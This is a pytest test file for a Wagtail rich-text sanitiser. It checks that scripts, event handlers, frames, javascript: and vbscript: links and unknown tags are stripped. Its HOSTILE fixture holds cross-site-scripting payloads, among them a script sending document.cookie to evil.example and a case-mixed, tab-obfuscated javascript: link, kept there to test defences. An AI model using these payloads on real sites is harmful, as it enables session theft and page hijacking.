"""Rich text written by code is cleaned with the editor's rules."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup

from wagtail_defenders.richtext import clean_rich_text

INTRODUCTION_FEATURES = ["bold", "italic", "link"]
BODY_FEATURES = ["bold", "italic", "link", "ol", "ul", "h3", "h4"]

HOSTILE = """
<p onclick="steal()" style="color: red" class="lead">A <b>brave</b> and <i>careful</i>
<strong>journalist</strong> from <em>Bamako</em>.
<a href="https://example.org/report?a=1&amp;b=2" onmouseover="steal()" target="_blank">Report</a>
<a href="javascript:alert(1)">one</a> <a href=" JaVa&#x09;ScRiPt:alert(2)">two</a>
<a href="vbscript:msgbox(3)">three</a> <a href="mailto:press@example.org">mail</a></p>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame">frame fallback</iframe>
<object data="https://evil.example/x.swf">object fallback</object>
<embed src="https://evil.example/x.swf">
<svg><script>alert(4)</script></svg>
<img src="x" onerror="alert(5)">
<marquee>Unknown tag text</marquee><custom-widget data-x="1">Custom text</custom-widget>
<!-- where she lives: secret -->
<form action="https://evil.example"><input name="q"><button>Send</button></form>
"""


def elements(html: str) -> list[str]:
    return [tag.name for tag in BeautifulSoup(html, "html.parser").find_all(True)]


def attributes(html: str) -> set[str]:
    document = BeautifulSoup(html, "html.parser")
    return {name for tag in document.find_all(True) for name in tag.attrs}


def test_scripts_handlers_frames_and_unknown_tags_are_removed():
    cleaned = clean_rich_text(HOSTILE, INTRODUCTION_FEATURES)

    assert set(elements(cleaned)) <= {"p", "b", "i", "strong", "em", "a", "br"}
    assert attributes(cleaned) <= {"href"}
    for removed in (
        "document.cookie",
        "display: none",
        "frame fallback",
        "object fallback",
        "alert(",
        "msgbox",
        "evil.example",
        "secret",
        "Send",
        "onclick",
        "onerror",
        "javascript",
        "JaVa",
    ):
        assert removed not in cleaned, removed
    # The text of an element outside the features stays, without the element.
    assert "Unknown tag text" in cleaned and "Custom text" in cleaned


def test_paragraphs_bold_italic_and_links_survive():
    cleaned = clean_rich_text(HOSTILE, INTRODUCTION_FEATURES)
    document = BeautifulSoup(cleaned, "html.parser")

    paragraph = document.find("p")
    assert paragraph is not None and paragraph.attrs == {}
    assert [b.get_text() for b in document.find_all("b")] == ["brave"]
    assert [i.get_text() for i in document.find_all("i")] == ["careful"]
    assert document.find("strong").get_text() == "journalist"
    assert document.find("em").get_text() == "Bamako"
    hrefs = [a.get("href") for a in document.find_all("a")]
    assert hrefs == [
        "https://example.org/report?a=1&b=2",
        None,
        None,
        None,
        "mailto:press@example.org",
    ]
    assert [a.get_text() for a in document.find_all("a")][1:4] == [
        "one",
        "two",
        "three",
    ]


def test_features_decide_what_stays():
    html = "<h2>Threats</h2><h3>Since 2020</h3><ul><li>Arrests</li></ul><p>Text</p>"

    body = clean_rich_text(html, BODY_FEATURES)
    introduction = clean_rich_text(html, INTRODUCTION_FEATURES)

    assert elements(body) == ["h3", "ul", "li", "p"]
    assert "Threats" in body
    assert elements(introduction) == ["p"]
    assert all(text in introduction for text in ("Threats", "Since 2020", "Arrests"))


def test_links_without_the_link_feature_keep_only_their_text():
    cleaned = clean_rich_text('<p><a href="https://example.org">site</a></p>', ["bold"])
    assert cleaned == "<p>site</p>"


@pytest.mark.parametrize(
    "html",
    [
        '<p><a linktype="page" id="42">profile</a></p>',
        '<p><a data-linktype="page" data-id="42" onclick="x()">profile</a></p>',
    ],
)
def test_page_links_are_stored_in_the_database_format(html):
    assert clean_rich_text(html, INTRODUCTION_FEATURES) == (
        '<p><a id="42" linktype="page">profile</a></p>'
    )


def test_unknown_link_types_are_unwrapped():
    cleaned = clean_rich_text(
        '<p><a linktype="evil" id="1">text</a></p>', INTRODUCTION_FEATURES
    )
    assert cleaned == "<p>text</p>"


def test_image_embeds_need_the_image_feature():
    html = (
        '<embed embedtype="image" id="7" format="left" alt="Portrait" '
        'onload="alert(1)"/><p>after</p>'
    )

    with_images = clean_rich_text(html, ["image"])
    without = clean_rich_text(html, INTRODUCTION_FEATURES)

    embed = BeautifulSoup(with_images, "html.parser").find("embed")
    assert embed is not None
    assert embed.attrs == {
        "embedtype": "image",
        "id": "7",
        "format": "left",
        "alt": "Portrait",
    }
    assert "embed" not in elements(without)
    assert "after" in without


def test_default_features_are_wagtails():
    cleaned = clean_rich_text("<h2>Title</h2><script>x()</script><p>Text</p>")
    assert cleaned == "<h2>Title</h2><p>Text</p>"


def test_cleaning_twice_changes_nothing():
    once = clean_rich_text(HOSTILE, BODY_FEATURES)
    assert clean_rich_text(once, BODY_FEATURES) == once


def test_empty_input():
    assert clean_rich_text("", INTRODUCTION_FEATURES) == ""
